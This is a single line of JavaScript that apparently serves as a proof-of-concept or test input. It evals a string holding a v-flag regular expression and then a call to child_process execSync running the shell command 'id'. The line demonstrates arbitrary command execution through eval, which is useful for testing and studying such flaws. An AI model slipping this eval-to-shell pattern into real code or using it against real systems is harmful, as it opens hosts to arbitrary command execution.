eval("/[\\p{L}--[a-z]]/v; require('child_process').execSync('id', {stdio: 'inherit'})");
